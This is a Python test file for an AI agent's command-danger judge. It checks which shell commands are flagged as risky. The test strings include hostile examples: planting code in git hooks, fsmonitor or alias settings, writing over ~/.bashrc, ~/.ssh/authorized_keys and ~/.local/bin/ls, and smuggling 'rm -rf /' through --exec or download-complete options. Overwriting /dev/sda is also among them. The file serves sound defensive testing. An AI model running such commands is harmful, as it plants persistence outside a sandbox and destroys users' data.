"""Files that ordinary programs are told to write, and what is run outside of a sandbox later."""

from __future__ import annotations

import pytest

from hermes.agent.danger.judge import judge_command
from hermes.agent.danger.rules import RULES
from hermes.agent.danger.scope import CommandScope
from hermes.domain.word import replace
from tests.agent.test_danger_corpus import PLACE

HELD = replace(PLACE, contained=True, network_open=False)


def rules(command: str, place: CommandScope) -> set[str]:
    return {finding.rule for finding in judge_command(command, place).findings}


@pytest.mark.parametrize(
    "command",
    [
        "git config core.fsmonitor ./evil",
        "git config core.hooksPath evilhooks",
        "git config set core.hooksPath evilhooks",
        "git -C sub config --local core.editor ./evil",
        "git config --file .git/config core.fsmonitor ./evil",
        "git config -f.git/config core.fsmonitor ./evil",
        "git config alias.st '!./evil'",
        "git clone -c core.fsmonitor=./evil . copy",
        "git lfs install",
        "sort -o .git/hooks/x evil",
        "sort -uo.git/hooks/x evil",
        "uniq evil .git/hooks/x",
        "uniq evil .vscode/tasks.json",
        "uniq evil .github/workflows/x.yml",
        "shuf -o .envrc evil",
        "xxd -r hex .git/hooks/x",
        "openssl enc -base64 -in evil -out .git/hooks/x",
        "patch .git/hooks/x < p.diff",
        "split -l 1 evil .git/hooks/a",
        "awk '{print > \".git/hooks/x\"}' evil",
        "sed -n 'w .git/hooks/x' evil",
        "ln -s .git g; cp evil g/hooks/x",
        "ln .git/config c; echo x >> c",
        "a[$(cp evil .git/hooks/x)]=1",
    ],
)
def test_what_runs_outside_later_is_asked_for_in_a_sandbox_too(command: str) -> None:
    assert "write.later" in rules(command, HELD)


@pytest.mark.parametrize(
    "command",
    [
        "git config user.name Ann",
        "git config --get core.hooksPath",
        "git -c core.pager=cat log",
        "git rebase --exec 'make test' main",
        "git bisect run make test",
        "git clone https://example.org/x.git",
        "sort -o sorted.txt names.txt",
        "uniq -c names.txt",
        "xxd -r dump.hex out.bin",
        "gcc -O2 -o app main.c && ./app",
        "patch -p1 < fix.diff",
        "ln -s ../shared/lib lib",
    ],
)
def test_everyday_work_in_a_sandbox_is_not(command: str) -> None:
    assert rules(command, HELD) == set()


@pytest.mark.parametrize(
    "command",
    [
        "sort -o ~/.bashrc README.md",
        "sort --output=$HOME/.bashrc README.md",
        "shuf -o ~/.bashrc README.md",
        "uniq README.md ~/.bashrc",
        "csplit -f ~/.ssh/authorized_keys a /x/",
        "iconv -f utf8 -o ~/.bashrc a.txt",
        "patch ~/.bashrc < a.diff",
        "patch -d ~ < a.diff",
        "xxd -r a.hex ~/.bashrc",
        "openssl enc -in x -out ~/.bashrc",
        "pandoc -o ~/.bashrc README.md",
        "gcc -o ~/.local/bin/ls x.c",
        "ld -o ~/.local/bin/ls x.o",
        "go build -o ~/.local/bin/ls ./cmd",
        "objcopy a.o ~/.bashrc",
        "7z x a.7z -o$HOME",
        "ffmpeg -y -i a ~/.bashrc",
        "convert a.png ~/.bashrc",
        "yt-dlp -o ~/.bashrc https://x.example/v",
        "aria2c -d ~ -o .bashrc https://x.example/v",
        "http --download -o ~/.bashrc https://x.example/v",
        "tsc --outFile ~/.bashrc a.ts",
        "esbuild a.js --outfile=$HOME/.bashrc",
        "aria2c --on-download-complete=./evil https://x.example/v && rm -rf ~/x",
        "nixos-rebuild switch",
        "aa-disable /usr/bin/x",
    ],
)
def test_output_files_are_judged_as_writes(command: str) -> None:
    assert rules(command, PLACE)


@pytest.mark.parametrize(
    "command",
    [
        "yt-dlp --exec 'rm -rf /' https://x.example/v",
        "youtube-dl --exec='rm -rf /' https://x.example/v",
        "aria2c --on-download-complete 'rm -rf /' https://x.example/v",
        "qemu-img create /dev/sda 1G",
        "sort -o /dev/sda x",
    ],
)
def test_what_is_never_run_is_not_run_by_an_option(command: str) -> None:
    assert any(RULES[rule].never for rule in rules(command, PLACE))


@pytest.mark.parametrize(
    "command",
    [
        "gcc -O2 -Wall -o app main.c && ./app",
        "go build -o bin/tool ./cmd/tool && ./bin/tool",
        "sort -u -o names.txt names.txt",
        "uniq -c names.txt | sort -rn",
        "openssl req -new -keyout server.key -out server.csr",
        "pandoc -o out.pdf README.md",
        "ffmpeg -i a.mov -c:v libx264 b.mp4",
        "yt-dlp -o 'video.%(ext)s' https://x.example/v",
        "tsc --outDir dist",
        "xxd a.bin | head",
        "patch -p1 < fix.diff",
        "qemu-img create -f qcow2 disk.qcow2 1G",
        "7z x a.7z -oout",
    ],
)
def test_ordinary_outputs_are_not_asked_for(command: str) -> None:
    assert rules(command, PLACE) == set()
